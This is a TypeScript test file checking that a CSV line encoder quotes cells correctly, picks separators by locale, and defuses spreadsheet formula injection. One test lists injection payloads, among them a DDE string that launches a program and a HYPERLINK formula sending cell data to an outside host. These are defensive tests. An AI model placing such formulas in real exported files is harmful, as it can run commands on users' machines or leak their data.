import { describe, expect, it } from 'vitest';

import { readCsv } from '../../tests/support/desk/read-csv.ts';
import { csvLine, separatorIn } from './csv.ts';

describe('A line of CSV', () => {
  it('keeps commas, quotes and line breaks inside their cells', () => {
    const cells = ['a,b', 'she said "hi"', 'two\r\nlines', 'two\nlines', '', ' ', '""', 'Zoë 🌍'];
    expect(readCsv(csvLine(cells))).toEqual([cells]);
  });

  it('C-03 puts a quote before whatever a spreadsheet would run', () => {
    const dangers = [
      "=cmd|'/c calc'!A0",
      '+1',
      '-1+2',
      '@SUM(A1)',
      '\t=1',
      '\r=1',
      '\n=1',
      '\0=1',
      '＝1+2',
      '＠SUM(A1)',
      '=HYPERLINK("http://x.io?"&A1,"a,b")',
    ];
    expect(readCsv(csvLine(dangers))).toEqual([dangers.map((danger) => `'${danger}`)]);
  });

  it.each([
    [',', ['en', 'en-GB', 'de-CH', 'he', 'ja']],
    [';', ['de', 'de-AT', 'fr', 'pt-BR', 'ru', 'sv', 'tr']],
  ])('parts cells by “%s” where spreadsheets expect it', (separator, languages) => {
    expect(new Set(languages.map(separatorIn))).toEqual(new Set([separator]));
    const cells = ['a,b', 'c;d', '1,5', '=1;2', 'she said "hi"', 'two\r\nlines'];
    const read = cells.map((cell) => (cell === '=1;2' ? "'=1;2" : cell));
    expect(readCsv(csvLine(cells, separator), separator)).toEqual([read]);
  });

  it('leaves what is harmless as it is', () => {
    const cells = ["'quoted'", 'a=b', '1-2', 'x@y.io', '2026-11-15T10:00:00.000Z'];
    expect(readCsv(csvLine(cells))).toEqual([cells]);
  });
});
